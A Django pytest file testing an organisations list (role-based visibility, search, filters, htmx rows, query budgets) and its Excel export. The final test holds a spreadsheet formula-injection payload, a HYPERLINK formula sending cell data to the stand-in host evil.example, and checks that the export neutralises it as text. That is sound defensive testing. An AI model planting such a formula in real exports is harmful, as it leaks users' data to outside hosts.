"""The organisations list, its htmx rows and the Excel export."""

import pytest
from django.urls import reverse
from pytest_django.asserts import assertContains, assertNotContains

from core.tests.utils import sheet_title, xlsx_rows, xlsx_text_cells
from organizations.models import Organization
from organizations.tests.factories import OrganizationFactory
from people.tests.factories import PersonFactory

LIST = reverse("organizations:list")
EXPORT = reverse("organizations:export")
HEADERS = [
    "Краткое наименование",
    "Полное наименование",
    "Тип",
    "ИНН",
    "Адрес",
    "Телефон",
    "Электронная почта",
    "Руководитель",
    "Люди",
]


@pytest.fixture
def kindergartens(municipality):
    return [
        OrganizationFactory(
            municipality=municipality,
            kind=Organization.Kind.KINDERGARTEN,
            short_name=name,
            full_name=f"Детский сад {name}",
        )
        for name in ("МДОУ «Ёлочка»", "МДОУ «Берёзка»")
    ]


def test_list_redirects_anonymous_to_login(client, db):
    response = client.get(LIST)

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('accounts:login')}?next={LIST}"


def test_list_shows_coordinator_the_organizations_of_the_municipality(
    client, coordinator, school, other_school, far_school
):
    client.force_login(coordinator)

    response = client.get(LIST)

    assertContains(response, "<h1>Организации</h1>", html=True)
    assertContains(response, "Найдено 2 организации")
    assertContains(response, "School")
    assertContains(response, "Other school")
    assertNotContains(response, "Far school")
    assertContains(response, "Добавить организацию")
    assertContains(response, "Выгрузить в Excel")


def test_list_shows_head_only_own_organization_without_add_button(
    client, head, school, other_school
):
    client.force_login(head)

    response = client.get(LIST)

    assertContains(response, "Найдена 1 организация")
    assertContains(response, f'href="{school.get_absolute_url()}"')
    assertNotContains(response, "Other school")
    assertNotContains(response, "Добавить организацию")


def test_list_shows_stranger_nothing_of_town(client, stranger, school, other_school):
    client.force_login(stranger)

    response = client.get(LIST)

    assertContains(response, "Far school")
    assertNotContains(response, "School</a>")
    assertNotContains(response, "Other school")


def test_list_shows_people_count_and_head_of_each_organization(
    client, coordinator, school
):
    head = PersonFactory(
        organization=school,
        last_name="Кузнецов",
        first_name="Андрей",
        middle_name="Петрович",
    )
    PersonFactory.create_batch(2, organization=school)
    school.head = head
    school.save(update_fields=["head"])
    client.force_login(coordinator)

    response = client.get(LIST)

    assertContains(
        response, '<td data-label="Руководитель">Кузнецов А. П.</td>', html=True
    )
    assertContains(response, '<td data-label="Люди">3</td>', html=True)


@pytest.mark.parametrize("q", ["ёлочка", "ЕЛОЧКА", "Ёлоч", "детский сад мдоу «ёлочка»"])
def test_list_search_ignores_case_and_yo(client, coordinator, kindergartens, q):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": q})

    assertContains(response, "Найдена 1 организация")
    assertContains(response, "МДОУ «Ёлочка»")
    assertNotContains(response, "МДОУ «Берёзка»")


def test_list_search_keeps_the_query_in_the_form(client, coordinator, kindergartens):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": "берёзка"})

    assertContains(response, 'value="берёзка"')


def test_list_filters_by_type(client, coordinator, school, kindergartens):
    client.force_login(coordinator)

    response = client.get(LIST, {"kind": "kindergarten"})

    assertContains(response, "Найдено 2 организации")
    assertNotContains(response, ">School<")


def test_list_with_nothing_found_says_so(client, coordinator, school):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": "лицей"})

    assertContains(response, "Ничего не найдено. Измените условия отбора.")


def test_list_ignores_an_unknown_type(client, coordinator, school, other_school):
    client.force_login(coordinator)

    response = client.get(LIST, {"kind": "university"})

    assert response.status_code == 200
    assertContains(response, "Найдено 2 организации")


def test_list_pages_through_many_organizations_keeping_the_filter(
    client, coordinator, municipality
):
    OrganizationFactory.create_batch(30, municipality=municipality, full_name="Школа")
    client.force_login(coordinator)

    first = client.get(LIST, {"q": "школа"})
    second = client.get(LIST, {"q": "школа", "page": 2})

    assertContains(first, "Найдено 30 организаций")
    assertContains(first, "страница 1 из 2")
    assertContains(first, "q=%D1%88%D0%BA%D0%BE%D0%BB%D0%B0&amp;page=2")
    assert len(first.context["page"].object_list) == 25
    assert len(second.context["page"].object_list) == 5


def test_list_htmx_request_returns_only_the_rows(client, coordinator, kindergartens):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": "ёлочка"}, headers={"HX-Request": "true"})

    content = response.content.decode()
    assert "<html" not in content
    assert "<form" not in content
    assert content.lstrip().startswith('<p class="muted">Найдена 1 организация</p>')
    assert "МДОУ «Ёлочка»" in content
    assert "МДОУ «Берёзка»" not in content
    assert "HX-Request" in response["Vary"]


def test_full_list_varies_on_htmx_header(client, coordinator, school):
    client.force_login(coordinator)

    assert "HX-Request" in client.get(LIST)["Vary"]


def test_export_redirects_anonymous_to_login(client, db):
    assert client.get(EXPORT).status_code == 302


def test_export_is_an_xlsx_of_the_organizations_in_scope(
    client, coordinator, school, other_school, far_school
):
    school.inn = "7022000000"
    school.address = "ул. Строителей, д. 50"
    school.save()
    PersonFactory(organization=school)
    client.force_login(coordinator)

    response = client.get(EXPORT)

    assert (
        response["Content-Disposition"] == 'attachment; filename="organizations.xlsx"'
    )
    assert sheet_title(response) == "Организации"
    header, *rows = xlsx_rows(response)
    assert header == HEADERS
    assert rows == [
        [
            "Other school",
            "Full name of Other school",
            "общеобразовательная организация",
            None,
            None,
            None,
            None,
            None,
            0,
        ],
        [
            "School",
            "Full name of School",
            "общеобразовательная организация",
            "7022000000",
            "ул. Строителей, д. 50",
            None,
            None,
            None,
            1,
        ],
    ]


def test_export_applies_the_filters_of_the_list(
    client, coordinator, school, kindergartens
):
    client.force_login(coordinator)

    response = client.get(EXPORT, {"q": "ЕЛОЧКА", "kind": "kindergarten"})

    _header, *rows = xlsx_rows(response)
    assert [row[0] for row in rows] == ["МДОУ «Ёлочка»"]


def test_export_gives_head_only_own_organization(client, head, school, other_school):
    client.force_login(head)

    _header, *rows = xlsx_rows(client.get(EXPORT))

    assert [row[0] for row in rows] == ["School"]


def test_list_export_link_carries_the_filters(client, coordinator, school):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": "school", "kind": "school"})

    assertContains(response, f'href="{EXPORT}?q=school&amp;kind=school"')


def _organizations_with_people(municipality, n):
    for organization in OrganizationFactory.create_batch(n, municipality=municipality):
        head = PersonFactory(organization=organization)
        PersonFactory(organization=organization)
        organization.head = head
        organization.save(update_fields=["head"])


# Budget: session, user, roles, linked person, count, "may create", the page's
# keys, the page's rows annotated.
LIST_QUERIES = 8


@pytest.mark.parametrize("n", [3, 40])
def test_list_query_count_does_not_grow_with_rows(
    client, coordinator, municipality, django_assert_max_num_queries, n
):
    _organizations_with_people(municipality, n)
    client.force_login(coordinator)

    with django_assert_max_num_queries(LIST_QUERIES):
        assert client.get(LIST).status_code == 200


@pytest.mark.parametrize("n", [3, 40])
def test_list_rows_query_count_does_not_grow_with_rows(
    client, coordinator, municipality, django_assert_max_num_queries, n
):
    _organizations_with_people(municipality, n)
    client.force_login(coordinator)

    with django_assert_max_num_queries(LIST_QUERIES):
        response = client.get(LIST, {"q": "school"}, headers={"HX-Request": "true"})
        assert response.status_code == 200


# Budget: session, user, roles, linked person, rows (one iterator chunk).
EXPORT_QUERIES = 5


@pytest.mark.parametrize("n", [3, 40])
def test_export_query_count_does_not_grow_with_rows(
    client, coordinator, municipality, django_assert_max_num_queries, n
):
    _organizations_with_people(municipality, n)
    client.force_login(coordinator)

    with django_assert_max_num_queries(EXPORT_QUERIES):
        response = client.get(EXPORT)

    assert len(xlsx_rows(response)) == n + 1


def test_export_writes_a_formula_like_name_as_text(client, coordinator, municipality):
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'
    OrganizationFactory(
        municipality=municipality, short_name=formula, full_name="\x07@x"
    )
    client.force_login(coordinator)

    response = client.get(EXPORT)

    for text in (formula, "@x"):
        (cell,) = xlsx_text_cells(response, text)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
